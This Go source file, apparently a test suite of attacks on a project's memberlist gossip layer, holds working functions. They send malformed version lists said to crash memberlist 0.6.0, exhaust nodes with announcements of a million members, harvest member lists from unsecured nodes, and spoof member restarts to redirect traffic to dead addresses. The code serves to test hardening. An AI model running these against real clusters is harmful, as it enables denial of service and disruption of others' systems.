package attacks

import (
	"context"
	"encoding/json"
	"errors"
	"net"
	"time"

	"github.com/google/uuid"
	"github.com/hashicorp/go-msgpack/v2/codec"

	"github.com/snowraft/snowraft/fsm"
)

// label is the label of members' gossip in memberlist.
const label = "snowraft/1"

// labeled returns a message with the label in front.
func labeled(said []byte) []byte {
	return append(append([]byte{244, byte(len(label))}, label...), said...)
}

// Meta holds the facts that a node reports in gossip and in handshakes.
type Meta struct {
	ID       string `json:"i"`
	Name     string `json:"n"`
	Cluster  string `json:"c,omitempty"`
	Starts   uint64 `json:"s"`
	Process  string `json:"p"`
	Raft     string `json:"r"`
	API      string `json:"a,omitempty"`
	Gossip   string `json:"g,omitempty"`
	Version  string `json:"v,omitempty"`
	Commands uint32 `json:"f"`
	Nonvoter bool   `json:"o,omitempty"`
}

func (m Meta) encode() []byte {
	raw, err := json.Marshal(m)
	if err != nil {
		panic(err) // strings and numbers only
	}
	return raw
}

func (m Meta) gossipName() string { return m.ID + "/" + m.Process }

// restarted returns the meta of the node after one more start.
func (m Meta) restarted() Meta {
	m.Starts++
	m.Process = process()
	return m
}

// process returns a random ID of a process.
func process() string { return uuid.NewString()[:8] }

// stranger returns the meta of a new node that knows all commands and has not joined a cluster.
func stranger() Meta {
	const closed = "127.0.0.1:9"
	return Meta{
		ID: uuid.NewString(), Name: "stranger", Starts: 1, Process: process(), Raft: closed, API: closed, Gossip: closed, Commands: fsm.Version,
	}
}

// state is one node in memberlist's exchange of states.
type state struct {
	Name        string
	Addr        []byte
	Port        uint16
	Meta        []byte
	Incarnation uint32
	State       int
	Vsn         []byte
}

func (m Meta) state() state {
	return state{Name: m.gossipName(), Addr: []byte{127, 0, 0, 1}, Port: 9, Meta: m.encode(), Incarnation: 1, Vsn: []byte{1, 5, 2, 0, 0, 0}}
}

// exchange returns memberlist's exchange of states. Its head announces the given number of nodes.
func exchange(announced int, states ...state) []byte {
	said := append([]byte{6}, packed(exchangeHead{Nodes: announced, Join: true})...)
	for _, s := range states {
		said = append(said, packed(s)...)
	}
	return said
}

type exchangeHead struct {
	Nodes, UserStateLen int
	Join                bool
}

// ShortVersions exchanges states about nodes whose lists of versions are too short. Such a list causes a panic in
// memberlist 0.6.0.
func ShortVersions(ctx context.Context, gossip string) error {
	for n := range 6 {
		s := stranger().state()
		s.Vsn = s.Vsn[:n]
		if err := say(ctx, gossip, labeled(exchange(1, s))); err != nil {
			return err
		}
	}
	return nil
}

// MillionNodes opens connections that announce 2^20 nodes each, and keeps them open until ctx ends.
func MillionNodes(ctx context.Context, gossip string, connections int) error {
	for range connections {
		conn, err := dial(ctx, "tcp", gossip)
		if err != nil {
			if refused(err) {
				continue
			}
			return err
		}
		if _, err := conn.Write(labeled(exchange(1 << 20))); err != nil && !refused(err) {
			return err
		}
	}
	return nil
}

// Datagrams sends these datagrams unchanged.
func Datagrams(ctx context.Context, gossip string, all ...[]byte) error {
	conn, err := dial(ctx, "udp", gossip)
	if err != nil {
		return err
	}
	defer conn.Close() //nolint:errcheck // nothing is buffered
	for _, raw := range all {
		if _, err := conn.Write(raw); err != nil && !refused(err) {
			return err
		}
	}
	return nil
}

// Overhear requests the list of members from a member, as a joining node does. It returns ErrShut if the member does not
// answer, which is what a secured member does.
func Overhear(ctx context.Context, gossip string) ([]Meta, error) {
	conn, err := dial(ctx, "tcp", gossip)
	if err != nil {
		return nil, err
	}
	defer conn.Close() //nolint:errcheck // the answer counts
	if _, err := conn.Write(labeled(exchange(0))); err != nil {
		return nil, err
	}
	kind := make([]byte, 1)
	if _, err := conn.Read(kind); err != nil || kind[0] != 6 {
		return nil, errors.Join(ErrShut, err)
	}
	decoder := codec.NewDecoder(conn, &codec.MsgpackHandle{})
	var head exchangeHead
	if err := decoder.Decode(&head); err != nil {
		return nil, err
	}
	var all []Meta
	for range head.Nodes {
		var s state
		if err := decoder.Decode(&s); err != nil {
			return nil, err
		}
		var m Meta
		if err := json.Unmarshal(s.Meta, &m); err != nil {
			return nil, err
		}
		all = append(all, m)
	}
	return all, nil
}

// MoveByGossip claims that each of these members has restarted at an address at which no process listens.
func MoveByGossip(ctx context.Context, gossip string, members []Meta) error {
	var states []state
	for _, m := range members {
		m = m.restarted()
		host, _, err := net.SplitHostPort(m.Raft)
		if err != nil {
			return err
		}
		m.Raft, m.API, m.Gossip = net.JoinHostPort(host, "9"), net.JoinHostPort(host, "9"), net.JoinHostPort(host, "9")
		states = append(states, m.state())
	}
	for range 3 { // the members refute each claim
		if err := say(ctx, gossip, labeled(exchange(len(states), states...))); err != nil {
			return err
		}
		select {
		case <-time.After(time.Second):
		case <-ctx.Done():
			return ctx.Err()
		}
	}
	return nil
}
